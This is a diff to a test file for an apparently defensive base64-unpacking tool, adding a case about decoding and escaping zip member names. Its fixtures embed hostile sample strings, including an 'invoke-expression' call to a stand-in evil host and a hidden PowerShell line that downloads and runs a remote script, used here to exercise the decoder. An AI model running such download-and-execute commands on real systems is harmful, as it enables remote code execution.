@@ -210,6 +210,24 @@ test("archives: zip members (several, or one), gzip, tar, tar.gz — each member
   assert.deepEqual(nested.items.map((i) => i.decodedString?.slice(0, 20)), ["run dGhlIGhpZGRlbiBj", "the hidden command l"]);
 });
 
+test("member names are no text to decode (a sample named by its SHA-256, a name that is base64) and cannot break their tag", () => {
+  const sha = crypto.createHash("sha256").update("x").digest("hex");
+  const hidden = b64("invoke-expression http://evil.example.com/x");
+  const zip = zipSync({ [`${sha}.bin`]: strToU8("payload text: connect 10.9.8.7"), [`${hidden}.txt`]: strToU8("second"), "it's <b>&.txt": strToU8("third") });
+  const r = base64.unpack(`cmd /c echo ${b64(zip)} end`);
+  assert.deepEqual(r.items.map((i) => [i.reference, i.fileName, i.decodedString]), [
+    ["2.1.1", `${sha}.bin`, "payload text: connect 10.9.8.7"],
+    ["2.1.2", `${hidden}.txt`, "second"],
+    ["2.1.3", "it's <b>&.txt", "third"],
+  ]);
+  assert.ok(r.fullDecodedString.includes(`name='[zip] Filename: ${sha}.bin' index='1.1'`), r.fullDecodedString);
+  assert.ok(r.fullDecodedString.includes("name='[zip] Filename: it&apos;s &lt;b&gt;&amp;.txt'"), r.fullDecodedString);
+  assert.doesNotMatch(r.fullDecodedString, /[\uFDD0\uFDD1]/, "no marks left in the text");
+  // The marks in data hide nothing: base64 between them is decoded all the same.
+  const marked = base64.unpack(`a \uFDD0${hidden}\uFDD1 b`);
+  assert.deepEqual(marked.items.map((i) => i.decodedString), ["invoke-expression http://evil.example.com/x"]);
+});
+
 test("a fragment repeated across zip and tar members is recorded once per level, with its occurrences", () => {
   // Two second-level fragments: S in three members (two zip, one tar), T in one zip and one tar member.
   const S = b64("powershell -w hidden -c iwr http://198.51.100.23/s2.ps1 | iex");
